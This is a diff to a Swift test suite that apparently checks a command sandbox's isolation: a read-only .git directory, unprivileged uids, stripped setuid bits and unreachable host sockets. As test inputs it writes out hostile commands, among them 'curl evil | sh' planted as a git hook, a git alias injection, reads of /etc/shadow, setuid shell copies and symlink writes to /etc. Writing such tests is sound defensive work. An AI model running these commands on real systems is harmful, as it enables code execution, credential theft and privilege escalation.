@@ -23,24 +23,88 @@ import Testing
     @Test func writesThroughAPlantedSymlinkFail() async throws {
         try FileManager.default.createDirectory(atPath: scratch.root + "/target", withIntermediateDirectories: true)
         let result = await run("ln -s /etc/hostname host-link && echo pwned >> host-link; ln -s \(scratch.root)/target out && echo x > out/planted; echo done")
-        #expect(result.text.contains("Read-only file system"))
+        #expect(result.text.contains("Read-only file system") || result.text.contains("Permission denied"))
         #expect(try String(contentsOfFile: "/etc/hostname", encoding: .utf8).contains("pwned") == false)
         #expect(!FileManager.default.fileExists(atPath: scratch.root + "/target/planted"))
     }
 
-    @Test func gitHooksAndConfigAreReadOnly() async throws {
+    @Test func gitIsReadOnlyAndImmovable() async throws {
         try scratch.write(".git/hooks/README", "hooks\n")
         try scratch.write(".git/config", "[core]\n")
         try scratch.write(".git/HEAD", "ref: refs/heads/main\n")
         let session = try scratch.session("git")
         let result = await run(
-            "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[alias] x = !evil' >> .git/config; echo 'ref: refs/heads/work' > .git/HEAD; cat .git/HEAD",
+            """
+            echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[alias] x = !evil' >> .git/config; echo 'ref: refs/heads/work' > .git/HEAD
+            mv .git moved; cp -r .git copy; rm -rf .git; echo 'gitdir: /root/.git' > .git; ln -sfn copy .git; ls -a
+            """,
             in: session)
         #expect(result.text.contains("Read-only file system"))
+        #expect(result.text.contains("Device or resource busy"), "renaming the mount point fails")
         #expect(!FileManager.default.fileExists(atPath: scratch.workspacePath + "/.git/hooks/pre-commit"))
         #expect(try scratch.read(".git/config") == "[core]\n")
-        #expect(try scratch.read(".git/HEAD") == "ref: refs/heads/work\n", "the rest of .git stays writable for git itself")
+        #expect(try scratch.read(".git/HEAD") == "ref: refs/heads/main\n")
+        var info = stat()
+        #expect(lstat(scratch.workspacePath + "/.git", &info) == 0 && (info.st_mode & S_IFMT) == S_IFDIR)
+        #expect(!FileManager.default.fileExists(atPath: scratch.workspacePath + "/moved"))
     }
+
+    @Test func aWorkspaceWithoutGitCannotGetOneFromACommand() async throws {
+        let result = await run("git init -q -b main 2>&1; mkdir -p .git/hooks 2>&1; ls -a .git")
+        #expect(result.text.contains("Read-only file system"))
+        #expect(!FileManager.default.fileExists(atPath: scratch.workspacePath + "/.git/HEAD"))
+        let status = await call("git_status", [:], in: session)
+        #expect(status.isError && status.text.contains("git_commit creates one"))
+        try scratch.write("a.txt", "a\n")
+        let commit = await call("git_commit", ["message": "first"], in: session)
+        #expect(!commit.isError, "\(commit.text)")
+        #expect(commit.text.contains("Created the repository"))
+        #expect(try scratch.read(".git/HEAD") == "ref: refs/heads/main\n")
+        // The host made it, and the sandbox still cannot write it.
+        let after = await run("touch .git/hooks/pre-commit 2>&1; echo x")
+        #expect(after.text.contains("Read-only file system"))
+    }
+
+    @Test func commandsRunAsAnUnprivilegedHostUser() async throws {
+        try #require(geteuid() == 0, "only a root toolhost maps commands to another uid")
+        let result = await run("cat /etc/shadow 2>&1; touch mine; sleep 3 & cat /proc/self/status | grep -E '^(Uid|Gid|Groups)'")
+        #expect(result.text.contains("Permission denied"))
+        #expect(!result.text.contains("root:"), "no line of /etc/shadow")
+        var info = stat()
+        #expect(stat(scratch.workspacePath + "/mine", &info) == 0)
+        #expect(info.st_uid == getuid(), "files made in the workspace belong to its owner")
+        // From the host, the command's processes are not root.
+        let runner = try #require(session.runner as? ConfinedRunner)
+        #expect(runner.hostIdentity.uid != 0)
+    }
+
+    @Test func setuidBitsNeverReachTheWorkspace() async throws {
+        let result = await run("cp /bin/sh s; chmod 4755 s; chmod g+s s; install -m 6755 /bin/sh t; ls -l s t")
+        for name in ["s", "t"] {
+            var info = stat()
+            if stat(scratch.workspacePath + "/" + name, &info) == 0 {
+                #expect(info.st_mode & (S_ISUID | S_ISGID) == 0, "\(name) is setuid on the host: \(result.text)")
+            }
+        }
+    }
+
+    @Test func hostSocketDaemonsAreUnreachable() async throws {
+        // A daemon listening on a pathname socket under /run, as systemd, dbus or containerd do.
+        let folder = "/run/toolhost-test-\(getpid())"
+        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(atPath: folder) }
+        let server = Process()
+        server.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
+        server.arguments = ["-c", "import socket,sys; s=socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(); c,_=s.accept(); c.send(b'hello-from-host'); c.close()", folder + "/d.sock"]
+        try server.run()
+        defer { server.terminate() }
+        for _ in 0..<50 where !FileManager.default.fileExists(atPath: folder + "/d.sock") { usleep(20_000) }
+        let command = "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\(folder)/d.sock'); print(s.recv(64))\" 2>&1; ls /run /var/run"
+        let result = await run(command)
+        #expect(!result.text.contains("hello-from-host"))
+        #expect(result.text.contains("No such file or directory"))
+    }
+
 
     @Test func homeSecretsAndTheHostTmpAreInvisible() async throws {
         let home = "/root/.toolhost-test-home-\(UInt32.random(in: 0...UInt32.max))"
@@ -254,7 +318,7 @@ final class LoopbackListener {
         let cases: [(String, String)] = [
             ("echo x > /etc/toolhost-denied", "denied by filesystem (profile default): only the workspace"),
             ("curl -sS -m 5 http://example.com/", "denied by network: loopback (profile default)"),
-            ("echo x > .git/hooks/pre-push", "denied by filesystem.read_only (profile default): .git/hooks and .git/config are protected"),
+            ("echo x > .git/hooks/pre-push", "denied by filesystem.read_only (profile default): .git is read-only to commands"),
             ("python3 -c 'import os; os.setns(0, 0)' 2>&1 || unshare -r true", "denied by seccomp and capabilities"),
         ]
         for (command, expected) in cases {
@@ -273,4 +337,5 @@ final class LoopbackListener {
         #expect(!FileManager.default.fileExists(atPath: scratch.workspacePath + "/big.bin")
             || ((try? FileManager.default.attributesOfItem(atPath: scratch.workspacePath + "/big.bin")[.size] as? Int) ?? 0) <= 64 << 20)
     }
+
 }
